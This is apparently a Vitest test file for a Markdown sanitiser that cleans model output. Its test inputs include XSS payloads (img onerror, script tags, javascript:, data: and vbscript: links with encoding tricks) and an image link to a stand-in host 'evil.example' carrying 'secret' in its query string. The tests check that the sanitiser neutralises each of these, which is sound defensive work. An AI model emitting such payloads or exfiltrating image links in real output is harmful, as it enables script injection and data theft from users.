import { describe, expect, test } from "vitest";
import { cleanMarkdown } from "./clean-markdown.ts";

const clean = (markdown: string): string => cleanMarkdown(markdown, 10_000);

describe("a model's Markdown", () => {
  test.each([
    "# Title\n\nText with `a < b` and **bold**.",
    "```html\n<p>hello</p>\n```\n\nAfter.",
    "- [a link](https://example.com/a) and [another](./b.md#part)\n- 1 < 2",
  ])("stays as it is where it is harmless: %j", (markdown) => {
    expect(clean(markdown)).toBe(markdown);
  });

  test.each([
    "<img src=x onerror=alert(1)>",
    "```<img src=x>`",
    "\\`<img src=x>`",
    "`` <img src=x> `",
    "- a\n\n  ```\n<img src=x>",
    "> ```\n<img src=x>",
    "text ``` <img src=x>",
    "``` a`b\n<img src=x>\n```",
    "```\ncode\n```\n<img src=x>\n```\ncode\n```",
    "```\ncode\n   ```\n<img src=x>",
    "<IMG SRC=x>",
  ])("shows no raw HTML: %j", (markdown) => {
    expect(clean(markdown)).toMatch(/&lt;img src=x/i);
    expect(clean(markdown)).not.toMatch(/<img/i);
  });

  test.each(["<!-- hidden -->", "<?php", "</div>", "<script>x</script>", "<javascript:alert(1)>"])(
    "opens no tag: %j",
    (markdown) => {
      expect(clean(markdown)).not.toMatch(/<[a-z/!?]/i);
    },
  );

  test.each([
    "![x](https://evil.example/?q=secret)",
    "!![x](https://evil.example)",
    "![x][1]\n\n[1]: https://evil.example",
  ])("loads no picture: %j", (markdown) => {
    expect(clean(markdown)).not.toContain("![");
  });

  test.each([
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,hi)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: <vbscript:x>",
  ])("has no link that runs: %j", (markdown) => {
    expect(clean(markdown)).not.toMatch(/(?:javascript|data|vbscript|&#106;avascript):/i);
  });

  test("is bounded, and free of control characters and of what turns text around", () => {
    expect(cleanMarkdown("a".repeat(100), 10)).toBe("a".repeat(10));
    expect(clean("a\0b\u202Ec\u200Bd\te\n")).toBe("abcd\te");
  });
});
